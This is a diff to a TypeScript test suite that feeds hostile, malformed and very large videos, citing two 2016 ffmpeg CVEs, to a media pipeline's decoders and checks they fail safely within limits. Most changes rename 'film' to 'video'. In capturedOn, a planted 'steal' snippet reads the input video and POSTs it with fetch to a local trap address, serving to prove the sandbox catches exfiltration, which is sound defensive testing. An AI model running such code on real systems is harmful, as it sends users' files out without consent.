@@ -8,15 +8,15 @@ import { openNodeAv } from '#engines/video/node-av.ts';
 import { openVideoEngine } from '#engines/video/open-engine.ts';
 import { limitsFor } from '#engines/video/programs.ts';
 import type { VideoEngine } from '#engines/video/video.ts';
-import { openFilmWork } from '#features/media/film-work.ts';
-import { openStudios } from '#features/media/studios.ts';
+import { openStudios } from '#features/media/decoding/decoders.ts';
+import { openVideoWork } from '#features/media/pipeline/process-video.ts';
 import { canDrawClips, drawClip, tellNoClips } from '#tests/support/clips.ts';
 import { readRows } from '#tests/support/people.ts';
 import { countOf, guards, isFull, tellProof } from './counts.ts';
 import { type HostileFile, hostileNames, named } from './hostile-files.ts';
-import { damageFilms, findHostileFilms, makeLiars } from './hostile-films.ts';
+import { damageVideos, findHostileVideos, makeLiars } from './hostile-videos.ts';
 import { type HostileWorld, openHostileWorld, openTrap, type Sent, type Trap } from './hostile-world.ts';
-import { drawLargeFilms, largeFilmCount } from './large-films.ts';
+import { drawLargeVideos, largeVideoCount } from './large-videos.ts';
 import { mostLargeDecoderBytes, watchVerdicts } from './watch-verdicts.ts';
 
 guards('src/features/media/**', 'src/engines/video/**', 'src/engines/children/**');
@@ -32,10 +32,10 @@ vi.mock('node:fs', async (load) => {
   return { ...real, existsSync };
 });
 
-/** The time that is stated for a film of a second. */
+/** The time that is stated for a video of a second. */
 const mostVerdictSeconds = 120 + 20;
-/** Every decoder has the film that it reads in its command line. */
-const readsFilm = 'inputs/original';
+/** Every decoder has the video that it reads in its command line. */
+const readsVideo = 'inputs/original';
 
 let trap: Trap;
 let world: HostileWorld;
@@ -44,12 +44,12 @@ beforeAll(async () => {
 });
 afterEach(async () => {
   hidden.clear();
-  await world.house.close();
+  await world.app.close();
   expect(readdirSync(trap.folder)).toEqual([]);
 });
 afterAll(() => trap.close());
 
-const drawGood = (): HostileFile => ({ what: 'a good film', name: 'good.mp4', bytes: drawClip({ seconds: 1 }) });
+const drawGood = (): HostileFile => ({ what: 'a good video', name: 'good.mp4', bytes: drawClip({ seconds: 1 }) });
 
 const engines = [
   { name: 'the ffmpeg of this machine', without: [] },
@@ -57,28 +57,28 @@ const engines = [
 ] as const;
 
 test.runIf(canDrawClips).for(engines)(
-  'R7: hostile films end with a reason, ask nobody, leave nothing and hold up nobody (CVE-2016-1897, CVE-2016-1898): $name',
+  'R7: hostile videos end with a reason, ask nobody, leave nothing and hold up nobody (CVE-2016-1897, CVE-2016-1898): $name',
   { timeout: 3_600_000 },
   async ({ name, without }, { skip }) => {
     if (without.length > 0 && openNodeAv() === undefined) return skip('npm ships no engine for this machine');
     for (const program of without) hidden.add(program);
     world = await openHostileWorld(trap);
     const seeds = [11, randomInt(2 ** 31)];
-    const films = named([
+    const videos = named([
       // In the short form the engine that npm ships has a share of the first one's.
-      ...(isFull || without.length === 0 ? findHostileFilms() : []),
+      ...(isFull || without.length === 0 ? findHostileVideos() : []),
       ...makeLiars(trap.address),
-      ...damageFilms(seeds, countOf(1, 9, 48)),
+      ...damageVideos(seeds, countOf(1, 9, 48)),
     ]);
-    expect(films.length).toBeGreaterThan(hostileNames.length);
+    expect(videos.length).toBeGreaterThan(hostileNames.length);
     expect(world.leftInScratch()).toEqual([]);
-    const watch = watchVerdicts(world.states, readsFilm);
+    const watch = watchVerdicts(world.states, readsVideo);
     const sent: Sent[] = [];
-    for (const film of [...films, drawGood()]) sent.push(await world.send(film));
+    for (const video of [...videos, drawGood()]) sent.push(await world.send(video));
     const ended = await world.waitForVerdicts(3_000_000);
     const seen = await watch.end();
     const failed = ended.filter(({ state }) => state === 'failed');
-    tellProof(`malformed-video, ${name}`, films.length, {
+    tellProof(`malformed-video, ${name}`, videos.length, {
       seed: seeds[1] ?? 0,
       failed: failed.length,
       ready: ended.length - failed.length,
@@ -89,7 +89,7 @@ test.runIf(canDrawClips).for(engines)(
       slowestSeconds: Math.round(seen.slowestSeconds),
     });
     expect(await world.findFaults(sent, seen, mostVerdictSeconds)).toEqual([]);
-    expect(failed.length).toBeGreaterThan(films.length / 4);
+    expect(failed.length).toBeGreaterThan(videos.length / 4);
     // Each stood where it was looked for.
     expect(
       [...seen.programs].some((program) => program.includes('node-av')),
@@ -99,7 +99,7 @@ test.runIf(canDrawClips).for(engines)(
 );
 
 test.runIf(canDrawClips).for(engines)(
-  'R7: films that really are large are made within the memory that is stated, or refused for their size: $name',
+  'R7: videos that really are large are made within the memory that is stated, or refused for their size: $name',
   { timeout: 3_600_000 },
   async ({ without }, { skip }) => {
     if (without.length > 0 && (openNodeAv() === undefined || !isFull))
@@ -108,13 +108,13 @@ test.runIf(canDrawClips).for(engines)(
     world = await openHostileWorld(trap);
     const sent: Sent[] = [];
     const all = { peakBytes: 0, slowestSeconds: 0 };
-    for (const film of [...drawLargeFilms(countOf(1, largeFilmCount)), drawGood()]) {
-      const watch = watchVerdicts(world.states, readsFilm);
-      sent.push(await world.send(film));
+    for (const video of [...drawLargeVideos(countOf(1, largeVideoCount)), drawGood()]) {
+      const watch = watchVerdicts(world.states, readsVideo);
+      sent.push(await world.send(video));
       await world.waitForVerdicts(1_200_000);
       const { peakBytes, slowestSeconds } = await watch.end();
       const figures = { megabytes: Math.round(peakBytes / 1e6), seconds: Math.round(slowestSeconds) };
-      tellProof(`malformed-video, ${film.what}`, 1, figures);
+      tellProof(`malformed-video, ${video.what}`, 1, figures);
       all.peakBytes = Math.max(all.peakBytes, peakBytes);
       all.slowestSeconds = Math.max(all.slowestSeconds, slowestSeconds);
     }
@@ -122,13 +122,13 @@ test.runIf(canDrawClips).for(engines)(
   },
 );
 
-/** One good film by the real work, with one of its defences off. @returns what went wrong */
-async function makeWith(films: { walls: Walls; engine: VideoEngine }): Promise<string[]> {
+/** One good video by the real work, with one of its defences off. @returns what went wrong */
+async function makeWith(videos: { walls: Walls; engine: VideoEngine }): Promise<string[]> {
   world = await openHostileWorld(trap, false);
-  const { engines } = world.house;
+  const { engines } = world.app;
   const sent = await world.send(drawGood());
   const studios = openStudios(engines);
-  const work = openFilmWork(engines, { ...studios, films: async () => films });
+  const work = openVideoWork(engines, { ...studios, videos: async () => videos });
   await work.make(sent.id, AbortSignal.timeout(120_000), async () => undefined);
   await studios.close();
   return world.findFaults([sent]);
@@ -144,9 +144,9 @@ async function openEngine(walls: Walls): Promise<VideoEngine> {
 async function capturedOn(walls: Walls): Promise<{ walls: Walls; engine: VideoEngine }> {
   const engine = await openEngine(walls);
   const steal = `const fs = require('node:fs');
-    const film = fs.readFileSync('../inputs/original');
-    try { fs.writeFileSync(${JSON.stringify(path.join(trap.folder, 'copy'))}, film); } catch {}
-    fetch(${JSON.stringify(trap.address)}, { method: 'POST', body: film }).catch(() => undefined);`;
+    const video = fs.readFileSync('../inputs/original');
+    try { fs.writeFileSync(${JSON.stringify(path.join(trap.folder, 'copy'))}, video); } catch {}
+    fetch(${JSON.stringify(trap.address)}, { method: 'POST', body: video }).catch(() => undefined);`;
   const captured: VideoEngine = {
     ...engine,
     async probe(bench, signal) {
@@ -184,7 +184,7 @@ test.runIf(canDrawClips)(
 );
 
 test.runIf(canDrawClips)(
-  'R7, planted: a ladder that leaves its film on the bench is found',
+  'R7, planted: a ladder that leaves its video on the bench is found',
   { timeout: patience },
   async () => {
     const walls = await openWalls({ hidden: [] });
@@ -205,15 +205,15 @@ test.runIf(canDrawClips)(
 );
 
 test.runIf(canDrawClips)(
-  'R7, planted: a wrong reason, none, a film that is gone, a stray and an error are found',
+  'R7, planted: a wrong reason, none, a video that is gone, a stray and an error are found',
   { timeout: patience },
   async () => {
     const walls = await openWalls({ hidden: [] });
     expect(await makeWith({ walls, engine: await openEngine(walls) })).toEqual([]);
-    const { house } = world;
+    const { app } = world;
     const good = (await world.states())[0]?.id ?? '';
-    await house.engines.storage.put('media/stray', Buffer.from('a film'));
-    await readRows(house, `update media set state = 'failed' where id = $1`, [good]);
+    await app.engines.storage.put('media/stray', Buffer.from('a video'));
+    await readRows(app, `update media set state = 'failed' where id = $1`, [good]);
     const file = { ...drawGood(), what: 'a liar', code: 'UNSUPPORTED' };
     const ends = [
       { file, status: 500, id: 'none' },
